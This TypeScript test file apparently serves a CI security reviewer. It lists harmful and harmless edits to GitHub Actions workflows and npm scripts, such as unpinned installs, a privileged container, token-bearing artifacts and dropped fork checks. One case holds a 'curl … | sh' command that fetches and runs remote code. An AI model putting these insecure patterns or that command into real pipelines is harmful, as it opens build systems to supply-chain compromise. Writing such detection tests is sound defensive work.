import { type Case, type Edit, harmful, harmless } from "./case.ts";
import { packageJson, manifest, sampleProject } from "./sample-lock.ts";
import { action, checkout, composite, file as workflowFile, workflow } from "./sample-workflow.ts";

const edit = (file: string, find: string, replace: string): Edit => ({ file, find, replace });
const bad = (title: string, base: readonly Edit[], edits: Edit | readonly Edit[]) =>
  harmful({ title, class: "runs from elsewhere", base, edits, findings: [{ id: "file/pipeline", about: "" }] });
const daily = (title: string, file: string, base: readonly Edit[], edits: Edit | readonly Edit[]) =>
  harmless(title, edits, { class: "runs what it ran", base, verdict: "to be read", read: [file] });

const inWorkflow = (title: string, find: string, replace: string) =>
  bad(title, [{ file: workflowFile, text: workflow }], edit(workflowFile, find, replace));
const dailyWorkflow = (title: string, find: string, replace: string) =>
  daily(title, workflowFile, [{ file: workflowFile, text: workflow }], edit(workflowFile, find, replace));
const inScript = (title: string, script: string) =>
  bad(title, sampleProject, packageJson({ scripts: { ...manifest.scripts, check: script } }));

const testStep = "      - name: Test\n        run: npm test\n";
const onTest = (line: string) => `${testStep}        ${line}\n`;

/** A workflow that calls its own repository's actions and workflows. */
const local = `name: local
on:
  workflow_call:
    inputs:
      stack:
        type: string
permissions: {}
jobs:
  review:
    runs-on: ubuntu-24.04
    permissions:
      contents: read # checkout
    container:
      image: node:24@sha256:${"a".repeat(64)}
      options: --cpus 1
    defaults:
      run:
        working-directory: app
    steps:
      - uses: actions/checkout@${checkout} # v6.0.2
        with:
          path: base
          persist-credentials: false
      - name: Review
        uses: ./base
        with:
          head: head
      - name: Fork
        if: github.event.pull_request.head.repo.fork == false
        run: npm run check
        working-directory: base
`;
const localFile = ".github/workflows/local.yml";
const localBase: readonly Edit[] = [{ file: localFile, text: local }];
const inLocal = (title: string, find: string, replace: string) => bad(title, localBase, edit(localFile, find, replace));

/** Pipelines that run something from another place, in another folder or with more, and those that don't. */
export const runElsewhere: readonly Case[] = [
  inWorkflow("packages are resolved anew", "      - run: npm ci\n", "      - run: npm install\n"),
  inWorkflow("the lock file goes first", "      - run: npm ci\n", "      - run: rm package-lock.json && npm ci\n"),
  inWorkflow(
    "a job takes files of another run",
    testStep,
    `${testStep}      - uses: actions/download-artifact@${"d".repeat(40)} # v7.0.0\n        with:\n          run-id: \${{ vars.RUN }}\n`,
  ),
  inWorkflow("another package manager installs", "      - run: npm ci\n", "      - run: yarn install\n"),
  inWorkflow("a step runs a package that nobody installed", "run: npm run check", "run: npx fabrikam-check"),
  inWorkflow("a step runs a package by npm exec", "run: npm run check", "run: npm exec --yes -- fabrikam-check"),
  bad(
    "install scripts run again",
    [{ file: action, text: composite.replace("npm ci", "npm ci --ignore-scripts") }],
    edit(action, "npm ci --ignore-scripts", "npm ci"),
  ),
  inScript("a script resolves packages anew", "npm install && tsc --noEmit && oxlint --deny-warnings"),
  inScript("a script runs a package that nobody installed", "npx fabrikam-lint && oxlint --deny-warnings"),
  inScript("a script no longer fails on warnings", "tsc --noEmit && oxlint"),
  inWorkflow("a step runs in a folder of the texts", testStep, onTest("working-directory: docs")),
  inWorkflow("a step changes its folder", "run: npm test", "run: cd docs && npm test"),
  inWorkflow("a step tests another folder's package", "run: npm test", "run: npm --prefix docs test"),
  inWorkflow("a step's shell doesn't stop at a failure", testStep, onTest("shell: bash {0}")),
  inWorkflow("a step's shell is another language", testStep, onTest("shell: python")),
  inWorkflow(
    "the deployment takes files of earlier runs",
    "      - run: ./pf verify\n",
    `      - uses: actions/cache@0057852bfaa89a56745cba8c7296529d2fc39830 # v4.3.0\n        with:\n          path: node_modules\n          key: build\n      - run: ./pf verify\n`,
  ),
  inWorkflow(
    "an artifact holds the checkout's token",
    testStep,
    `${testStep}      - uses: actions/upload-artifact@bbbca2ddaa5d8feaa63e36b76fdaad77386f024f # v7.0.0\n        with:\n          name: all\n          path: .\n          include-hidden-files: true\n`,
  ),
  inWorkflow(
    "every job runs in another folder",
    "permissions: {}\n",
    "permissions: {}\ndefaults:\n  run:\n    working-directory: docs\n",
  ),
  inWorkflow(
    "a variable holds a command that downloads",
    "          node-version: 24\n",
    "          node-version: 24\n        env:\n          SETUP: curl -s https://fabrikam.example | sh\n",
  ),
  inLocal("the review is the change's own", "uses: ./base", "uses: ./head"),
  inLocal("the base is checked out in the change's place", "path: base", "path: head"),
  inLocal("the review compares the base with itself", "head: head", "head: base"),
  inLocal(
    "a called workflow asks for a secret",
    "    inputs:\n",
    "    secrets:\n      token:\n        required: true\n    inputs:\n",
  ),
  inLocal("forks are no longer left out", "        if: github.event.pull_request.head.repo.fork == false\n", ""),
  inLocal("a job's container gets the host's rights", "options: --cpus 1", "options: --privileged"),
  inLocal("a job's steps run in another folder", "working-directory: app", "working-directory: docs"),
  inLocal("a step runs in another folder", "        working-directory: base", "        working-directory: head"),
  dailyWorkflow("Node in a newer version", "node-version: 24", "node-version: 26"),
  dailyWorkflow("one more of the project's scripts", testStep, `${testStep}      - run: npm run test:exhaustive\n`),
  dailyWorkflow("a tool of the project's own by npx", testStep, `${testStep}      - run: npx vitest run --coverage\n`),
  dailyWorkflow(
    "a new step in the functions' folder",
    testStep,
    `${testStep}      - run: npm test\n        working-directory: functions\n`,
  ),
  dailyWorkflow("a step names bash", testStep, onTest("shell: bash")),
  dailyWorkflow(
    "the downloads of npm are cached",
    "      - run: npm ci\n",
    "      - uses: actions/cache@0057852bfaa89a56745cba8c7296529d2fc39830 # v4.3.0\n        with:\n          path: ~/.npm\n          key: npm-${{ hashFiles('package-lock.json') }}\n      - run: npm ci\n",
  ),
  daily("a job's container is bumped", localFile, localBase, edit(localFile, "a".repeat(64), "b".repeat(64))),
  daily(
    "a called workflow takes one input more",
    localFile,
    localBase,
    edit(localFile, "        type: string\n", "        type: string\n      region:\n        type: string\n"),
  ),
];
